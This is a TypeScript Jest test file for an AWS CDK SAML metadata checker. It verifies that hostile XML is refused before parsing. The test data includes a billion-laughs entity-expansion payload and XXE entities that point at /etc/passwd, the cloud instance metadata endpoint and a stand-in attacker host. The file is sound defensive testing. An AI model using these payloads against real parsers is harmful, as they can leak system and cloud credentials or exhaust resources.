import * as fs from 'fs';
import * as path from 'path';
import { App, Stack } from 'aws-cdk-lib';
import * as fc from 'fast-check';
import { checkSamlMetadata } from '../../src/identity-center/saml-metadata';
import { METADATA_XML } from '../fixtures';

// Each property synthesizes dozens of stacks: on a loaded 2-core CI machine that outlasts jest's 5 s default.
jest.setTimeout(120_000);

/*
 * Hostile metadata documents: huge ones, ones with a DOCTYPE (entity
 * expansion, external entities) and ones that are not UTF-8 are refused
 * before any XML parser sees them, so nothing is expanded or fetched.
 */

function check(document: string): void {
  checkSamlMetadata(new Stack(new App(), 'Check'), 'samlMetadataDocument', document);
}

/** Counts every call into the XML library: a refused document must reach neither its validator nor its parser. */
const xmlCalls = { count: 0 };
jest.mock('fast-xml-parser', () => {
  const actual = jest.requireActual('fast-xml-parser');
  return {
    XMLValidator: { validate: (...args: unknown[]) => { xmlCalls.count++; return actual.XMLValidator.validate(...args); } },
    XMLParser: class extends actual.XMLParser {
      parse(...args: unknown[]) { xmlCalls.count++; return super.parse(...args); }
    },
  };
});

function parserCalls(run: () => void): number {
  xmlCalls.count = 0;
  try {
    run();
  } catch {
    // The error itself is checked by the callers.
  }
  return xmlCalls.count;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
${METADATA_XML.replace(/^<\?xml[^>]*\?>/, '').replace('entityID="', 'entityID="&lol9;')}`;

describe('hostile SAML metadata is refused without being parsed', () => {
  test('the example metadata reaches the parser (so the spies see real calls)', () => {
    expect(parserCalls(() => check(METADATA_XML))).toBeGreaterThan(0);
  });

  test('entity expansion (billion laughs)', () => {
    expect(() => check(BILLION_LAUGHS)).toThrow(/^SsoClientVpnBastion: samlMetadataDocument contains a DOCTYPE declaration/);
    expect(parserCalls(() => check(BILLION_LAUGHS))).toBe(0);
  });

  test('an external entity (XXE), wherever the DOCTYPE is and however it is spelled', () => {
    const doctype = fc.record({
      keyword: fc.constantFrom('DOCTYPE', 'doctype', 'DocType', 'dOcTyPe'),
      at: fc.nat(),
      target: fc.constantFrom('file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'https://attacker.example/x.dtd'),
    });
    fc.assert(fc.property(doctype, ({ keyword, at, target }) => {
      const position = at % METADATA_XML.length;
      const hostile = `${METADATA_XML.slice(0, position)}<!${keyword} md [<!ENTITY xxe SYSTEM "${target}">]>${METADATA_XML.slice(position)}`;
      expect(() => check(hostile)).toThrow(/^SsoClientVpnBastion: samlMetadataDocument contains a DOCTYPE declaration/);
      expect(parserCalls(() => check(hostile))).toBe(0);
    }), { numRuns: 50 });
  });

  test('a huge document', () => {
    const huge = METADATA_XML.replace('</md:EntityDescriptor>', `<!--${'x'.repeat(10_000_000)}--></md:EntityDescriptor>`);
    expect(() => check(huge)).toThrow(/^SsoClientVpnBastion: samlMetadataDocument is \d+ characters long; IAM accepts 1000 to 10000000/);
    expect(parserCalls(() => check(huge))).toBe(0);
  });

  test('files that are not UTF-8 (UTF-16 with a byte order mark, Latin-1), read as UTF-8', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(METADATA_XML, 'utf16le')]).toString('utf8');
    const latin1 = Buffer.from(METADATA_XML.replace('entityID="', 'entityID="caf\u00e9'), 'latin1').toString('utf8');
    for (const document of [utf16, latin1]) {
      expect(() => check(document)).toThrow(/^SsoClientVpnBastion: samlMetadataDocument is not UTF-8 text/);
      expect(parserCalls(() => check(document))).toBe(0);
    }
  });

  test('random bytes and random edits get the named error, never another one', () => {
    const bytes = fc.uint8Array({ minLength: 900, maxLength: 3000 }).map((array) => Buffer.from(array).toString('utf8'));
    const edited = fc.record({ at: fc.nat(), insert: fc.string({ unit: 'binary', maxLength: 30 }), cut: fc.nat({ max: 40 }) })
      .map(({ at, insert, cut }) => {
        const position = at % METADATA_XML.length;
        return METADATA_XML.slice(0, position) + insert + METADATA_XML.slice(position + cut);
      });
    fc.assert(fc.property(fc.oneof(bytes, edited), (document) => {
      try {
        check(document);
      } catch (error) {
        expect((error as Error).message).toMatch(/^SsoClientVpnBastion: samlMetadataDocument /);
      }
    }), { numRuns: 100 });
  });

  test('can fail: the example file itself is accepted, so the checks above are not refusing everything', () => {
    expect(() => check(fs.readFileSync(path.join(__dirname, '..', '..', 'examples', 'identity-center-metadata.xml'), 'utf8'))).not.toThrow();
  });
});
